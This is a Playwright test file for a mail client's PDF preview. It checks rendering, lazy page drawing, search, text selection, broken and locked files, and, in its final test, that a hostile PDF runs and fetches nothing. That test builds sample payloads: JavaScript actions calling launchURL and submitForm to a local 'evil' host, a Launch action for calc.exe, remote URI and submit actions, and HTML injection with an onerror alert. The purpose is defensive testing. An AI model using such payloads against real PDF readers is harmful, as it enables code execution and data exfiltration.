import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Locator, Page } from "playwright/test";
import { enter, expect, expectAccessible, needs, test } from "#e2e/fixtures.ts";
import { drawnTwice, watchPage } from "#e2e/hostile/watch-page.ts";
import { deliver, robinOf } from "#e2e/pages/robin.ts";
import { tinyPdf } from "#e2e/hostile/tiny-pdf.ts";

needs("messages that can be read");

/** Opens the preview of a PDF that robin sent. */
async function openPreview(page: Page, url: string, base64: string): Promise<Locator> {
  const robin = await robinOf(url);
  const messageId = await deliver(robin, "Scan", {
    textBody: "attached",
    attachments: [{ fileName: "scan.pdf", contentType: "application/pdf", base64 }],
  });
  const isNew = page.url() === "about:blank";
  await enter(page, url, `/messages/${messageId}`);
  const read = page.getByRole("button", { name: "View: scan.pdf" });
  await expect(read).toBeVisible();
  const loaded = () =>
    page.evaluate(() => performance.getEntriesByType("resource").filter(({ name }) => name.includes("/pdf")));
  if (isNew) expect(await loaded(), "the viewer is loaded by who needs it alone").toEqual([]);
  await read.click();
  return page.getByRole("dialog", { name: "scan.pdf" });
}

/** How many pixels of a page's image are black. */
function inkOf(picture: Locator): Promise<number> {
  return picture.evaluate((canvas: HTMLCanvasElement) => {
    const context = canvas.getContext("2d");
    if (!context || canvas.width === 0) return 0;
    const { data } = context.getImageData(0, 0, canvas.width, canvas.height);
    let black = 0;
    for (let at = 0; at < data.length; at += 4)
      if (data[at + 3] === 255 && Number(data[at]) + Number(data[at + 1]) + Number(data[at + 2]) < 60)
        black += 1;
    return black;
  });
}

const workersOf = (page: Page) => page.workers().filter((worker) => worker.url().includes("pdf")).length;

test("a PDF is drawn by page; a broken one saved", async ({ page, server }) => {
  await test.step("a PDF is drawn page by page, named and readable", async () => {
    const dialog = await openPreview(page, server.url, tinyPdf({ pages: ["First words", "Second words"] }));
    for (const name of ["Page 1 of 2", "Page 2 of 2"]) {
      const picture = dialog.getByRole("img", { name });
      await picture.scrollIntoViewIfNeeded();
      await expect.poll(() => inkOf(picture), name).toBeGreaterThan(1000);
    }
    await expect(dialog.getByText("First words")).toBeAttached();
    await expect(dialog.getByText("Second words")).toBeAttached();
    await expect(dialog.locator("iframe, embed, object")).toHaveCount(0);
    await expectAccessible(page);
    expect(workersOf(page)).toBe(1);
    await dialog.getByRole("button", { name: "Close" }).last().click();
    await expect.poll(() => workersOf(page)).toBe(0);
  });
  await test.step("a long PDF draws what is visible or found", async () => {
    const pages = Array.from({ length: 60 }, (_, at) => `Words of page ${at + 1}`);
    const dialog = await openPreview(page, server.url, tinyPdf({ pages }));
    const first = dialog.getByRole("img", { name: "Page 1 of 60" });
    await expect.poll(() => inkOf(first)).toBeGreaterThan(1000);
    await dialog.getByRole("region", { name: "scan.pdf" }).focus();
    // On a busy machine the pages may still be taking their places.
    await expect(async () => {
      await page.keyboard.press("End");
      await expect(dialog.getByText("Page 60 of 60")).toBeVisible({ timeout: 2000 });
    }).toPass();
    const last = dialog.getByRole("img", { name: "Page 60 of 60" });
    await expect.poll(() => inkOf(last)).toBeGreaterThan(1000);
    await expect.poll(() => inkOf(first)).toBe(0);
    const width = () => last.evaluate((canvas: HTMLCanvasElement) => canvas.width);
    const before = await width();
    await dialog.getByRole("button", { name: "Larger" }).click();
    await expect.poll(width).toBeGreaterThan(before);
    await expect(dialog.getByText("Page 60 of 60")).toBeVisible();

    // The browser's search finds pages not drawn yet.
    await expect(dialog.getByText("Words of page 60")).toBeAttached();
    // Not in TypeScript's DOM library. It selects; scrolling there is left to the browser's find field.
    await expect.poll(() => page.evaluate("find('Words of page 37')")).toBe(true);
    await page.evaluate(() => getSelection()?.anchorNode?.parentElement?.scrollIntoView());
    const found = dialog.getByRole("img", { name: "Page 37 of 60" });
    await expect.poll(() => inkOf(found)).toBeGreaterThan(1000);
    await expect(dialog.getByText("Words of page 37")).toHaveCount(1);
  });
  await test.step("a broken or locked PDF can still be saved", async () => {
    for (const [base64, words] of [
      [Buffer.from("%PDF-1.7\nnothing").toString("base64"), "This PDF is broken and cannot be shown"],
      [tinyPdf({ pages: ["secret"], trailer: locked }), "This PDF is locked with a password"],
    ] as const) {
      const dialog = await openPreview(page, server.url, base64);
      await expect(dialog.getByText(words)).toBeVisible();
      const download = page.waitForEvent("download");
      await dialog.getByRole("button", { name: "Save" }).click();
      expect((await download).suggestedFilename()).toBe("scan.pdf");
    }
  });
});

test("a PDF that never opens is given up", async ({ page, server }) => {
  await page.route(/pdf\.worker/, (route) =>
    route.fulfill({ contentType: "text/javascript", body: "setInterval(() => {}, 1000)" }),
  );
  await page.clock.install();
  const dialog = await openPreview(page, server.url, tinyPdf({ pages: ["Words"] }));
  await expect.poll(() => workersOf(page)).toBe(1);
  await page.clock.fastForward(31_000);
  await expect(dialog.getByText("This PDF cannot be shown here")).toBeVisible();
  await expect.poll(() => workersOf(page)).toBe(0);
});

/** Where something is in the image of its page, as fractions of its width and height. */
async function placeOf(picture: Locator, what: Locator) {
  const [page, box] = [await picture.boundingBox(), await what.boundingBox()];
  if (!page || !box) throw new Error("It is not drawn");
  return {
    left: (box.x - page.x) / page.width,
    right: (box.x + box.width - page.x) / page.width,
    top: (box.y - page.y) / page.height,
    bottom: (box.y + box.height - page.y) / page.height,
  };
}

test("the text of a PDF is selected, copied and found", async ({ page, context, server }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const words = "First words) Tj 0 -16 Td /F1 8 Tf (Second line";
  const pages = [words, words];
  const dialog = await openPreview(page, server.url, tinyPdf({ pages, firstPage: "/Rotate 90" }));
  const upright = dialog.getByRole("img", { name: "Page 2 of 2" });
  await upright.scrollIntoViewIfNeeded();
  // Its text is laid over the drawing last, and again once the scroll bar is there.
  await expect(dialog.getByRole("img", { name: "Page 1 of 2" })).toHaveAttribute("aria-busy", "false");
  await expect(upright).toHaveAttribute("aria-busy", "false");
  await expect.poll(() => inkOf(upright)).toBeGreaterThan(1000);
  const line = dialog.getByText("First words").last();
  await line.scrollIntoViewIfNeeded();
  // Helvetica at 18 points from 40, 140 on a page of 300 by 200: its letters extend to 129, and from 136 to 155.
  const place = await placeOf(upright, line);
  expect(place.left).toBeCloseTo(40 / 300, 2);
  expect(Math.abs(place.right - 129 / 300)).toBeLessThan(0.02);
  expect(place.top).toBeGreaterThan(40 / 200);
  expect(place.bottom).toBeLessThan(70 / 200);
  const last = await dialog.getByText("Second line").last().boundingBox();
  const first = await line.boundingBox();
  if (!last || !first) throw new Error("The text is not there");
  await page.mouse.move(first.x + 1, first.y + first.height / 2);
  await page.mouse.down();
  await page.mouse.move(last.x + last.width - 1, last.y + last.height / 2, { steps: 5 });
  await page.mouse.up();
  await page.keyboard.press("Control+c");
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied.replaceAll("\r", "")).toBe("First words\nSecond line");
  await line.dblclick({ position: { x: 4, y: 8 } });
  const selected = await page.evaluate(() => getSelection()?.toString());
  expect(selected?.trim()).toBe("First");
  const turned = dialog.getByRole("img", { name: "Page 1 of 2" });
  await turned.scrollIntoViewIfNeeded();
  await expect.poll(() => inkOf(turned)).toBeGreaterThan(1000);
  const down = await placeOf(turned, dialog.getByText("First words").first());
  expect(down.top).toBeCloseTo(40 / 300, 2);
  expect(Math.abs(down.bottom - 129 / 300)).toBeLessThan(0.02);
  expect(down.left).toBeGreaterThan(130 / 200);
  expect(down.right).toBeLessThan(160 / 200);
});

test("a hostile PDF runs nothing, opens nothing and fetches nothing", async ({ page, context, server }) => {
  const requests: string[] = [];
  const witness = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.end("x");
  });
  await new Promise<void>((resolve) => witness.listen(0, "127.0.0.1", resolve));
  // A server that listens on TCP has this kind of address.
  const evil = `http://127.0.0.1:${(witness.address() as AddressInfo).port}`;
  const script = `<< /S /JavaScript /JS (app.alert\\("ran"\\); app.launchURL\\("${evil}/js"\\); this.submitForm\\("${evil}/form"\\)) >>`;
  const action = (more: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Border [0 0 0] /A << ${more} >> >>`;
  const hostile = tinyPdf({
    pages: [
      "press",
      `Letters) Tj 0 -12 Td /F1 4 Tf (<img src=${evil}/text onerror=alert\\(1\\)><style>@import "${evil}/style"</style>`,
    ],
    catalog: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /URI << /Base (${evil}/) >>`,
    firstPage: `/AA << /O ${script} /C << /S /Launch /F (calc.exe) >> >> /Annots [${[
      action(`/S /URI /URI (${evil}/uri)`),
      action(`/S /Launch /F << /FS /URL /F (${evil}/launch) >>`),
      action(`/S /GoToR /F << /FS /URL /F (${evil}/remote.pdf) >> /D [0 /Fit]`),
      action(`/S /SubmitForm /F << /FS /URL /F (${evil}/submit) >>`),
      action(`/S /ImportData /F << /FS /URL /F (${evil}/import) >>`),
      `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /AA << /E ${script} /Fo ${script} /D ${script} >> >>`,
    ].join(" ")}]`,
    content: `/F << /FS /URL /F (${evil}/external) >> /FFilter /FlateDecode`,
  });
  const { foreign, opened, dialogs } = watchPage(page, context, server.url);
  const dialog = await openPreview(page, server.url, hostile);
  const second = dialog.getByRole("img", { name: "Page 2 of 2" });
  await second.scrollIntoViewIfNeeded();
  await expect.poll(() => inkOf(second)).toBeGreaterThan(1000);
  const first = dialog.getByRole("img", { name: "Page 1 of 2" });
  await first.scrollIntoViewIfNeeded();
  await expect(first).toHaveAttribute("aria-busy", "false");
  const letters = dialog.getByText(`<img src=${evil}/text onerror=alert(1)>`);
  for (const place of [first, letters]) {
    // The text layer over the image takes the click.
    await place.click({ force: true });
    await place.dblclick({ force: true });
    await place.click({ force: true, button: "middle" });
  }
  await expect(dialog.getByRole("link")).toHaveCount(0);
  await dialog.getByRole("button", { name: "Close" }).last().click();
  await expect(dialog).toBeHidden();
  await drawnTwice(page);
  expect([requests, foreign, opened, dialogs]).toEqual([[], [], [], []]);
  await expect(page).toHaveURL(/\/messages\/\d+$/);
  witness.close();
});

const locked = `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"0a".repeat(32)}> /U <${"0b".repeat(32)}> >>`;
